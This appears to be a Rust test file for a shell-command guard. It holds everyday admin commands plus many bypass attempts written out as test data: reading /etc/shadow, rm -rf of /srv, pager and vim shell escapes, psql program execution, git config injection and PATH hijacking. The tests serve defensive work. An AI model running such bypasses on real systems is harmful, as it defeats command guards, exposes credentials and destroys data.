//! Lines that a system administrator types every day: nothing in them is opaque. And beside each construct that is
//! followed for their sake, what somebody would do with it who wants to get past.

use std::collections::BTreeSet;

use sallyport_shell::{Analysis, Opaque, Pager, Protected, ProtectedError, Setting, analyse};

/// As a guarded shell has it on a terminal.
fn setting() -> Result<Setting, ProtectedError> {
    let protected = Protected::new([("/etc/shadow*", "secret"), ("/srv/**", "production")])?;
    let mut setting = Setting::new("/home/deploy")
        .protecting(protected)
        .knowing("USER", "deploy");
    setting.pager = Pager::Secured;
    Ok(setting)
}

const EVERYDAY: &[&str] = &[
    r#"kubectl config use-context prod"#,
    r#"kubectl config set-context --current --namespace=app"#,
    r#"for ((i=0;i<3;i++)); do echo $i; done"#,
    r#"for ((i=1; i<=10; i+=2)) { echo "$i"; }"#,
    r#"select x in a b c; do echo $x; break; done"#,
    r#"trap 'rm -f /tmp/lock' EXIT"#,
    r#"trap - INT"#,
    r#"cleanup() { rm -rf /tmp/work; }; trap cleanup EXIT; ls"#,
    r#"trap 'exit 1' INT TERM"#,
    r#"trap 'echo failed at $LINENO >&2' ERR"#,
    r#"trap '' HUP"#,
    r#"trap "echo bye" EXIT INT TERM"#,
    r#"man ls"#,
    r#"man 5 crontab"#,
    r#"man -k network"#,
    r#"psql -c 'select 1'"#,
    r#"psql -U app -d app -c "select count(*) from users""#,
    r#"psql -l"#,
    r#"vim -es -c q"#,
    r#"vi -u NONE +qa!"#,
    r#"echo `date +\%F`"#,
    r#"echo `echo \`hostname\``"#,
    r#"echo `echo "a \$b"`"#,
    r#"x=`ls | wc -l`; echo $x"#,
    r#"ls /etc/*.d"#,
    r#"cat /etc/ho*"#,
    r#"[[ -f /etc/hosts ]] && echo yes"#,
    r#"[[ $USER == deploy ]] && echo yes"#,
    r#"[[ $USER =~ ^dep ]] && echo yes"#,
    r#"[[ "$x" =~ ^[0-9]+$ ]] && echo number"#,
    r#"[[ $HOSTNAME == web-* ]] && echo web"#,
    r#"[[ -z $x && -n $y ]] && echo ok"#,
    r#"case $1 in start) echo start;; stop) echo stop;; *) echo other;; esac"#,
    r#"case "$USER" in root|admin) echo r;; *) echo n;; esac"#,
    r#"case x in (a) echo 1;; esac"#,
    r#"printf -v now '%(%F)T' -1; echo $now"#,
    r#"printf -v n '%03d' 7"#,
    r#"cat <<< "hello""#,
    r#"grep foo <<< "$x""#,
    r#"read -r a b <<< "1 2""#,
    r#"while read -r l; do echo "$l"; done < /etc/hosts"#,
    r#"while read -r l; do echo "$l"; done < <(ls /etc)"#,
    r#"ps aux | grep nginx | grep -v grep | awk '{print $2}'"#,
    r#"df -h | sort -k5 -n -r | head -n 5"#,
    r#"du -sh /var/log/* | sort -h | tail -5"#,
    r#"find /var/log -name '*.log' -mtime +7 -print"#,
    r#"find . -type f -name '*.tmp' -delete"#,
    r#"find . -name '*.py' -exec grep -l TODO {} +"#,
    r#"journalctl -u nginx --since '1 hour ago' --no-pager"#,
    r#"journalctl -u nginx -n 100"#,
    r#"systemctl status nginx"#,
    r#"systemctl is-active nginx"#,
    r#"tail -f /var/log/syslog"#,
    r#"tail -n 100 /var/log/nginx/access.log | cut -d' ' -f1 | sort | uniq -c | sort -rn | head"#,
    r#"grep -rn 'error' /var/log/nginx/ | head -20"#,
    r#"awk -F: '$3 >= 1000 {print $1}' /etc/passwd"#,
    r#"sed -n '1,20p' /etc/hosts"#,
    r#"sed -i.bak 's/foo/bar/' app.conf"#,
    r#"tar czf backup.tgz conf/"#,
    r#"tar tzf backup.tgz | head"#,
    r#"curl -sS http://localhost:8080/health"#,
    r#"curl -s localhost:9200/_cat/health?v"#,
    r#"ss -tlnp | grep :80"#,
    r#"ip addr show"#,
    r#"ip -br a"#,
    r#"netstat -tulpn"#,
    r#"free -m"#,
    r#"uptime"#,
    r#"id"#,
    r#"who"#,
    r#"last -n 5"#,
    r#"history"#,
    r#"jobs"#,
    r#"alias"#,
    r#"type ls"#,
    r#"which python3"#,
    r#"export FOO=bar"#,
    r#"echo $((1 + 2))"#,
    r#"i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done"#,
    r#"i=0; while (( i < 3 )); do echo $i; ((i++)); done"#,
    r#"let i=1+2"#,
    r#"arr=(a b c); echo ${arr[1]} ${#arr[@]}"#,
    r#"for f in *.log; do gzip "$f"; done"#,
    r#"for h in web1 web2; do echo $h; done"#,
    r#"for i in {1..5}; do echo $i; done"#,
    r#"for i in $(seq 1 3); do echo $i; done"#,
    r#"if [ -d /tmp/x ]; then rm -r /tmp/x; fi"#,
    r#"test -e /etc/hosts && cat /etc/hosts"#,
    r#"mkdir -p a/b/c && cd a/b/c && pwd"#,
    r#"cp -a conf conf.bak"#,
    r#"mv a.txt b.txt"#,
    r#"ln -sfn releases/42 current"#,
    r#"chmod 644 app.conf"#,
    r#"touch x.txt"#,
    r#"echo "${x:-default}""#,
    r#"echo "${f%.txt}" "${f##*/}""#,
    r#"echo "${x//a/b}""#,
    r#"echo "${x^^}""#,
    r#"echo "${#x}""#,
    r#"f() { echo "$1"; }; f hello"#,
    r#"set -euo pipefail"#,
    r#"ls -la"#,
    r#"ls -l | wc -l"#,
    r#"cat a | tee b"#,
    r#"diff -u a b"#,
    r#"wc -l *.txt"#,
    r#"date '+%F %T'"#,
    r#"date -d yesterday +%F"#,
    r#"env | sort"#,
    r#"time ls"#,
    r#"nohup sleep 1 &"#,
    r#"sleep 1 & wait"#,
    r#"kill -0 1234"#,
    r#"pgrep -a nginx"#,
    r#"lsof -i :80"#,
    r#"dig +short example.com"#,
    r#"ping -c 1 localhost"#,
    r#"git status"#,
    r#"git log --oneline -5"#,
    r#"git pull"#,
    r#"git diff HEAD~1"#,
    r#"docker ps"#,
    r#"docker logs --tail 50 web"#,
    r#"kubectl get pods -n app"#,
    r#"kubectl logs deploy/web --tail=20"#,
    r#"crontab -l"#,
    r#"openssl x509 -in cert.pem -noout -dates"#,
    r#"md5sum *.iso"#,
    r#"xargs -n1 echo < list.txt"#,
    r#"ls | xargs -I{} echo {}"#,
    r#"seq 3 | while read n; do echo $n; done"#,
    r#"echo 'a b' | { read x y; echo $y; }"#,
    r#"(cd /tmp && ls)"#,
    r#"{ echo a; echo b; } > out.txt"#,
    r#"! grep -q x f || echo no"#,
    r#"command -v jq"#,
    r#"exec 3>&1"#,
    r#"printf '%s\n' a b"#,
    r#"nc -zv localhost 80"#,
    r#"top -b -n 1 | head -20"#,
    r#"vmstat 1 3"#,
    r#"less /var/log/syslog"#,
    r#"echo -e "a\tb""#,
    r#"echo "$(hostname): $(uptime)""#,
    r#"python3 --version"#,
    r#"node -v"#,
    r#"apt list --installed"#,
    r#"dpkg -l | grep nginx"#,
    r#"rpm -qa"#,
    r#"getent passwd deploy"#,
    r#"stat -c %s f"#,
    r#"basename "$PWD""#,
    r#"dirname /a/b"#,
    r#"timeout 5 curl -s localhost"#,
    r#"watch -n1 date"#,
    r#"ulimit -n"#,
    r#"umask"#,
    r#"echo $?"#,
    r#"echo $PATH"#,
    r#"echo ~"#,
    r#"pushd /tmp; popd"#,
    r#"[ "$a" = "b" ] || exit 1"#,
    r#"until false; do break; done"#,
    r#"while IFS= read -r line; do echo "$line"; done < /etc/hosts"#,
    r#"while IFS=: read -r user _ uid rest; do echo "$user"; done < /etc/passwd"#,
    r#"IFS=, read -ra parts <<< 'a,b'; echo "${parts[1]}""#,
    r#"f() { local d="$1"; mkdir -p "$d/x" && rm -rf "$d/x"; }; f /tmp/a"#,
    r#"T=$(mktemp -d) && cd "$T" && touch x && cd / && rm -rf "$T""#,
    r#"f=$(mktemp /tmp/deploy.XXXXXX) && date > "$f" && rm -f "$f""#,
    r#"n=$(wc -l < /etc/hosts); if (( n > 0 )); then echo lines; fi"#,
    r#"n=$(ps aux | grep -c nginx); echo $((n - 1))"#,
    r#"start=$(date +%s); end=$(date +%s); echo $((end - start))"#,
    r#"touch "/tmp/$(basename /etc/hosts .txt)""#,
    r#"echo file{01..12}.log"#,
    r#"awk '$3 >= 100 {printf "%d\n", ($3 >= 5)}' f"#,
    r#"bash -euo pipefail -c 'for i in 1 2; do echo $i; done'"#,
    r#"hash -r"#,
    r#"set -euo pipefail; ls; set +euo pipefail; set -o"#,
    r#"less -N +G /var/log/syslog"#,
    r#"stty size"#,
    r#"sudo -E systemctl restart nginx"#,
    r#"export PATH=$PATH:/usr/local/bin"#,
    r#"PATH="/usr/local/sbin:${PATH}""#,
    r#"tar -czf backup.tgz --exclude='*.tmp' -C /var/log ."#,
    r#"gzip app.log.1"#,
    r#"gzip -c /srv/app/data > copy.gz"#,
    r#"split -l 100 big part-"#,
    r#"zip -qr a.zip conf"#,
    r#"unzip -l a.zip"#,
    r#"openssl x509 -in /srv/app/cert.pem -noout -enddate"#,
    r#"openssl dgst -sha256 /srv/app/file"#,
    r#"git clone --depth 1 https://git.example.com/app.git"#,
    r#"git commit -m 'no more rm -rf /srv'"#,
    r#"git config --get remote.origin.url"#,
    r#"git grep -n TODO"#,
    r#"git cherry-pick abc123"#,
    r#"chown -R $(id -u):$(id -g) pub"#,
    r#"sysctl -n net.ipv4.ip_forward"#,
    r#"ip -br a; ifconfig eth0; route -n; arp -an"#,
    r#"iptables -t nat -nvL"#,
    r#"mount -l -t ext4; swapon --show; fdisk -l"#,
    r#"pip list --outdated; npm ls --depth=0; gem list; rpm -qa --last; yum list installed"#,
    r#"service nginx restart; service --status-all; nginx -t; nginx -s reload"#,
    r#"loginctl list-sessions --no-pager; timedatectl status; hostnamectl"#,
    r#"redis-cli -h cache ping; mysqladmin -u root status"#,
    r#"docker compose ps; docker compose restart web; docker system prune -f; docker rm $(docker ps -aq)"#,
    r#"kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data"#,
    r#"helm list -A; helm get values web -n app; aws s3 ls s3://bucket"#,
    r#"make --version; gcc --version; java -version; ruby -v; terraform version"#,
];

#[test]
fn everyday_lines_are_understood() -> Result<(), ProtectedError> {
    let setting = setting()?;
    for line in EVERYDAY {
        let found = analyse(line.as_bytes(), &setting);
        assert_eq!((&found.opaque, &found.unparsed), (&BTreeSet::new(), &None), "{line}");
        assert_eq!(found.unknown_programs(), BTreeSet::new(), "{line}");
    }
    Ok(())
}

/// Whether something says no: what is not known, or what is protected.
fn is_stopped(found: &Analysis) -> bool {
    let classes = [found.reads_classes(), found.writes_classes(), found.removes_classes()];
    !found.is_exact() || classes.iter().any(|classes| !classes.is_empty()) || !found.unknown_programs().is_empty()
}

#[track_caller]
fn stopped(lines: &[&str]) -> Result<(), ProtectedError> {
    let setting = setting()?;
    let passed: Vec<_> = lines
        .iter()
        .filter(|line| !is_stopped(&analyse(line.as_bytes(), &setting)))
        .collect();
    assert!(passed.is_empty(), "{passed:#?}");
    Ok(())
}

#[test]
fn loops_of_arithmetic_hide_nothing() -> Result<(), ProtectedError> {
    stopped(&[
        "for ((i=0; i<3; i++)); do cat /etc/shadow; done",
        "for ((i=0; i<3; i++)); do rm -rf $d; d=/srv; done",
        "for ((i=a[$(id)]; i<3; i++)); do :; done",
        "x='a[$(id)]'; for ((i=x; i<3; i++)); do :; done",
        "x='a[$(id)]'; for ((i=0; i<x; i++)); do :; done",
        "x='a[$(id)]'; for ((i=0; i<3; i+=x)); do :; done",
        "read x; for ((;x;)); do :; done",
        "x=/tmp; for ((i=0; i<3; x=0)); do rm -rf /srv$x; done",
        "for ((i=0; i<3)); do :; done",
        "for ((i=0; i<3; i++; j++)); do :; done",
        "for ((PATH=0; i<3; i++)); do :; done",
        "for ((i=0; (i<3; i++)); do :; done",
    ])
}

#[test]
fn a_choice_may_be_any_of_its_values_or_none() -> Result<(), ProtectedError> {
    stopped(&[
        "select x in a srv; do rm -rf /$x; done",
        "select x in a b; do rm -rf /${x:-srv}; done",
        "y=a; select x in a b; do rm -rf /$y; y=srv; done",
        "select x in a; do $REPLY; done",
        "select x in a; do cat /etc/shadow; done",
        "select $(id) in a; do :; done",
        "x=(select $(cat /etc/shadow)); echo $x",
    ])
}

#[test]
fn handlers_are_followed_in_any_state() -> Result<(), ProtectedError> {
    stopped(&[
        "trap 'cat /etc/shadow' EXIT",
        "trap \"rm -rf /srv\" INT",
        "trap ls EXIT; ls() { rm -rf /srv; }",
        "f() { trap g EXIT; }; f; g() { cat /etc/shadow; }",
        "x=/tmp/a; trap 'rm -rf $x' EXIT; x=/srv",
        "cd /tmp; trap 'rm -rf a' EXIT; cd /srv",
        "trap 'x=/srv' DEBUG; x=/tmp/a; rm -rf $x",
        "trap 'cd /srv' DEBUG; cd /tmp; rm -rf a",
        "trap 'true && x=/srv' DEBUG; x=/tmp/a; rm -rf $x",
        "trap 'false || read x' DEBUG; x=/tmp/a; rm -rf $x",
        "trap 'for x in /srv; do :; done' DEBUG; x=/tmp/a; rm -rf $x",
        "trap ': $((x = 1))' DEBUG; x=/tmp/a; rm -rf $x",
        "trap ': ${x:=/srv}' DEBUG; unset x; rm -rf /tmp$x",
        "f() { x=/srv; }; trap f DEBUG; x=/tmp/a; rm -rf $x",
        "trap 'break' DEBUG; while true; do x=/srv; x=/tmp; done; rm -rf $x",
        "trap 'export PAGES=1' DEBUG; aws s3 ls",
        "trap 'ls() { rm -rf /srv; }' DEBUG; ls",
        "trap 'exec < /tmp/x' DEBUG; sh",
        "trap 'set -- /srv' DEBUG; set -- /tmp/a; rm -rf $1",
        "trap \"$x\" EXIT",
        "trap 'eval $x' EXIT",
        "trap 'trap \"rm -rf /srv\" EXIT' INT",
        "bash -c 'trap \"rm -rf /srv\" EXIT'",
        "trap 'man ls' EXIT",
        "trap 'alias ls=id' DEBUG",
        "f() { trap f EXIT; cat /etc/shadow; }; trap f EXIT",
    ])
}

#[test]
fn back_quotes_are_read_as_they_are_unquoted() -> Result<(), ProtectedError> {
    stopped(&[
        r"echo `echo \`cat /etc/shadow\``",
        r"echo `echo \$(cat /etc/shadow)`",
        r"echo `cat /etc/sha\dow`",
        r"`echo \`echo rm\`` -rf /srv",
        "echo \"`echo \\\"; rm -rf /srv; \\\"`\"",
        r"echo `eval \$x`",
    ])
}

#[test]
fn arithmetic_evaluates_what_it_reads() -> Result<(), ProtectedError> {
    stopped(&[
        "x='a[$(id)]'; let i=x",
        "x='a[$(id)]'; (( i = 1, x ))",
        "x='a[$(id)]'; (( i = x ))",
        "x='a[$(id)]'; (( x == 1 ))",
        "x='a[$(id)]'; (( x += 1 ))",
        "x='a[$(id)]'; echo $((y = x))",
        "read i; (( i++ ))",
        "read i; (( j = i = 1 ))",
    ])
}

#[test]
fn pagers_are_trusted_only_where_they_are_told_to_run_nothing() -> Result<(), ProtectedError> {
    stopped(&[
        "man -P 'sh -c id' ls",
        "man --pager=sh ls",
        "man /tmp/page",
        "man -l page",
        "man -H ls",
        "man $x",
        "LESSSECURE= man ls",
        "unset LESSSECURE; man ls",
        "env -i man ls",
        "env -u LESSSECURE less x",
        "sudo less /var/log/syslog",
        "sudo git log",
        "sudo journalctl -u nginx",
        "sudo systemctl status nginx",
        "GIT_EDITOR=vim git commit",
        "bash -c 'man ls'",
        "less /etc/shadow",
        "less '+!id' x",
        "less '+G!id' x",
        "stty -echo",
        "less -o /srv/x y",
        "less -k keys x",
        "more x",
        "vim x",
        "vim -es",
        "vim -c q x",
        "vim -c '!id' -c q",
        "vim -es -c 'q|!id'",
        "vim -S x -c q",
        "vim -u /tmp/rc -c q",
        "VIMINIT='!id' vim -es -c q",
        "vim --cmd '!id' -c q",
        "ssh web-2 man ls",
        "rpm --eval '%(id)'",
        "rpm -q --define x y",
        "apt list -o APT::Update::Pre-Invoke::=id",
        "apt install x",
        "dpkg -i x.deb",
        "dpkg -l --admindir=/srv",
    ])?;
    let free = Setting::new("/home/deploy");
    for line in [
        "man ls",
        "less x",
        "psql -c 'select 1'",
        "git log",
        "git commit",
        "journalctl -u nginx",
        "systemctl status nginx",
        "systemctl",
    ] {
        assert!(
            analyse(line.as_bytes(), &free).opaque.contains(&Opaque::ShellEscape),
            "{line}"
        );
    }
    for line in [
        "journalctl --no-pager -u nginx",
        "systemctl --no-pager status nginx",
        "systemctl restart nginx",
    ] {
        assert!(analyse(line.as_bytes(), &free).opaque.is_empty(), "{line}");
    }
    Ok(())
}

#[test]
fn a_query_runs_nothing_at_either_end() -> Result<(), ProtectedError> {
    stopped(&[
        "psql",
        "psql app",
        r"psql -c '\! id'",
        r"psql -c '\copy x to /srv/y'",
        "psql -c \"copy x to program 'id'\"",
        "psql -c \"COPY x FROM '/etc/shadow'\"",
        "psql -c \"select pg_read_file('/etc/shadow')\"",
        "psql -c \"select lo_import('/etc/shadow')\"",
        "psql -c \"create function f() returns int language plpythonu\"",
        "psql -c 'delete from users'",
        "psql -c 'select pg_terminate_backend(7)'",
        "psql -c 'select pg_catalog.count(1)'",
        "psql -c 'select \"count\"(1)'",
        "psql -c 'select 1; drop table users'",
        "psql -c 'with x as (delete from users returning *) select * from x'",
        "psql -c 'select * into copy from users'",
        "psql -c 'select nextval /* x */ (1)'",
        "psql -c 'table users; update users set a = 1'",
        "psql -c 'explain analyze delete from users'",
        "psql -f /tmp/x.sql",
        "psql < /tmp/x.sql",
        "psql -c 'select 1' -f x",
        "psql -o '|sh' -c 'select 1'",
        "psql -L /srv/x -c 'select 1'",
        "psql -c \"$q\"",
        "psql -d 'service=x sslkey=/etc/shadow' -c 'select 1'",
        "PAGER=sh psql -c 'select 1'",
    ])
}

#[test]
fn a_form_that_asks_is_no_form_that_does() -> Result<(), ProtectedError> {
    stopped(&[
        "sysctl -w kernel.panic=1",
        "sysctl kernel.panic=1",
        "sysctl -p /tmp/x",
        "ifconfig eth0 down",
        "route add default gw 10.0.0.1",
        "arp -d host",
        "mount -t ext4 /dev/sdb /mnt",
        "mount -a",
        "swapon /swapfile",
        "fdisk /dev/sda",
        "hostnamectl set-hostname x",
        "resolvectl dns eth0 1.1.1.1",
        "nmcli connection down x",
        "iptables -L -F",
        "iptables -LF",
        "iptables -t nat -A OUTPUT -j DROP",
        "nft list ruleset ';' flush ruleset",
        "ufw disable",
        "crontab -u root",
        "crontab -l -e",
        "crontab file",
        "passwd root",
        "chage -E 0 root",
        "dpkg-query --admindir=/tmp/x -l",
        "rpm -q --eval '%(id)'",
        "yum history undo 3",
        "pip install x",
        "pip list --python /tmp/x",
        "npm view user/repo",
        "npm config set script-shell /tmp/x",
        "nginx -c /tmp/x.conf -t",
        "nginx -t -c /tmp/x.conf",
        "service halt start",
        "service $x restart",
        "service ../../tmp/x start",
        "redis-cli",
        "redis-cli -h cache",
        "redis-cli flushall",
        "redis-cli --eval /tmp/x.lua",
        "mysqladmin drop app",
        "ctr run x y",
        "helm install web ./chart",
        "helm get values web --post-renderer /tmp/x",
        "aws sts get-caller-identity --region file:///etc/shadow",
        "aws s3 rm s3://bucket/x",
        "ssh-keygen -lf /etc/shadow",
        "make -f /tmp/x --version-not",
        "make",
        "vim -V",
        "sudo loginctl list-sessions",
        "yarn --version",
        "cargo --version",
        "sysctl $x",
        "docker compose up -d",
        "docker compose -f /tmp/x.yml ps",
        "docker compose run web sh",
        "docker image build .",
        "docker run $x",
        "git -C /srv/app pull",
        "cd /srv && git -C app clean",
        "git -C $x pull",
        "git clone https://e/app.git /srv/app",
        "cd /srv && git clone https://e/app.git",
        "git clone -c core.sshCommand=id https://e/app.git",
        "git clone -u id https://e/app.git",
        "git commit -F /etc/shadow",
        "git grep -O",
        "git grep --open-files-in-pager=id x",
        "git config core.pager id",
        "git config --get x --file=/etc/shadow",
        "git submodule foreach id",
    ])
}

#[test]
fn what_a_substitution_leaves_may_be_nothing() -> Result<(), ProtectedError> {
    stopped(&[
        "rm -rf /srv$(wc -l < x)",
        "rm -rf \"/srv$(mktemp -d)\"/../srv",
        "rm -rf /$(wc -l < x)",
        "T=$(mktemp -d); rm -rf $T/srv",
        "T=$(mktemp -d); rm -rf $T/../srv/x; cat $T/etc/shadow",
        "TMPDIR=/srv; rm -rf $(mktemp -d)",
        "read TMPDIR; rm -rf $(mktemp -d)",
        "rm -rf $(mktemp -d /srv/x.XXXXXX)",
        "rm -rf $(mktemp -p /srv)",
        "rm -rf $(mktemp -u; echo /srv)",
        "mktemp() { echo /srv; }; rm -rf $(mktemp)",
        "wc() { echo 'a[$(id)]'; }; n=$(ls | wc -l); echo $((n))",
        "n=$(echo 'a[$(id)]' || wc -l); echo $((n))",
        "n=$(ls | xargs wc -l); echo $((n))",
        "n=$(grep -c x a b); echo $((n))",
        "n=$(wc -l x); echo $((n))",
        "n=$(wc -l <<< x; cat y); echo $((n))",
        "n=$(cat x | tee y); echo $((n))",
        "rm -rf /$(basename /x/srv)",
        "cat /etc/$(basename /x/shadow)",
        "cat /etc/$(basename /x/shadow.txt .txt)",
    ])
}

#[test]
fn what_is_local_or_set_for_a_reading_is_that_and_no_more() -> Result<(), ProtectedError> {
    stopped(&[
        "x=/srv; f() { bash -c 'local x=/tmp/a; rm -rf $x'; }; f",
        "x=/srv; local x=/tmp/a; rm -rf $x",
        "f() { local x=/tmp/a; }; x=/srv; f; rm -rf $x",
        "f() { local x=$1; rm -rf $x; }; f /srv",
        "f() { local x=/tmp; x=/srv; rm -rf $x; }; f",
        "f() { local x=$1; rm -rf $x; }; f $y",
        "IFS=/ ; x=a/srv; rm -rf $x",
        "IFS=x cat y",
        "read() { rm -rf $x; }; IFS=a read",
        "IFS=$(cat /etc/shadow) read x",
        "IFS=: read -r x < /tmp/y; rm -rf $x",
        "IFS=: PATH=/tmp read x",
        "IFS=, read IFS",
        "export PATH=/tmp:$PATH",
        "export PATH=$PATH:",
        "export PATH=$x:/usr/bin",
        "export PATH=$PATH:/usr/bin \"PATH=/tmp\"",
        "PATH=$PATH:/usr/bin export \"PATH=/tmp\"",
        "PATH=$PATH:/usr/bin/../../tmp",
        "PATH=$PATH:. ls",
        "export PATH=$PATH:/usr/bin > /tmp/$((PATH=1))",
        "PATH+=/usr/bin",
        "bash -o posix -c ls",
        "set -o posix",
        "set -euo posix",
        "set -ako x",
        "set +o $x",
        "bash -o $x -c ls",
        "hash -p /tmp/x ls",
        "sudo -E less x",
        "export GIT_PAGER=id; sudo -E git log",
    ])
}

#[test]
fn what_stands_beside_a_file_is_written_with_it() -> Result<(), ProtectedError> {
    stopped(&[
        "gzip /srv/x.log",
        "gunzip /srv/x.gz",
        "gunzip -N x.gz",
        "lz4 -l /srv/x",
        "cd /srv && git commit -Sm x",
        "gunzip --name x.gz",
        "zstd --rm -c /srv/x",
        "cd /srv && split big part-",
        "split big /srv/part-",
        "cd / && gunzip srv.gz",
        "cd /etc && gunzip shadow.gz",
        "zip -m a.zip /srv/x",
        "cd /srv && unzip -o x.zip",
        "unzip x.zip -d /srv",
        "openssl x509 -in a.pem -out /srv/x",
        "openssl dgst -sha256 -out /srv/x a",
        "openssl dgst -sha256 /etc/shadow",
        "openssl rand -out /srv/x 16",
        "tar -czf /tmp/b.tgz -C / srv/.. etc/shadow",
        "tar -czf /tmp/b.tgz shadow -C /etc hosts -C /",
        "cd /etc && tar -czf /tmp/b.tgz shadow -C /var/log .",
        "cd /etc && tar -czf /tmp/b.tgz --add-file=shadow -C /var/log .",
        "tar -xzf x.tgz -C /srv",
        "chown deploy /srv/x",
        "chown --reference=y /srv/x",
        "awk '{print > \"/srv/x\"}' y",
        "awk '{print >> \"/srv/x\"}' y",
        "rm -rf /sr{u..w}",
        "cat /etc/shado{w..w}",
    ])
}

/// Two patterns overlap if some name matches both, and only then.
#[test]
fn patterns_that_share_a_name_overlap_and_others_do_not() -> Result<(), ProtectedError> {
    let setting = setting()?;
    for (line, reads) in [
        ("cat /etc/*.conf", true),
        ("cat /etc/h*.conf", false),
        ("cat /etc/ho*", false),
        ("cat /etc/s*", true),
        ("cat /etc/sh?dow", true),
        ("cat /etc/s[a-z]adow", true),
        ("cat /etc/??", false),
        ("cat /etc/*w", true),
        ("cat /etc/shado", false),
        ("cat /*/shadow", true),
        ("cat /e*/h*", false),
    ] {
        let found = analyse(line.as_bytes(), &setting);
        assert_eq!(found.reads_classes().contains("secret"), reads, "{line}");
    }
    Ok(())
}

#[test]
fn an_address_that_may_be_several_arguments_may_be_any() -> Result<(), ProtectedError> {
    stopped(&[
        "y=$(cat z); curl http://e/$y",
        "curl localhost$y/x",
        "curl file*:///etc/x",
        "curl FILE:///srv/x?",
        "curl $y/x",
    ])
}
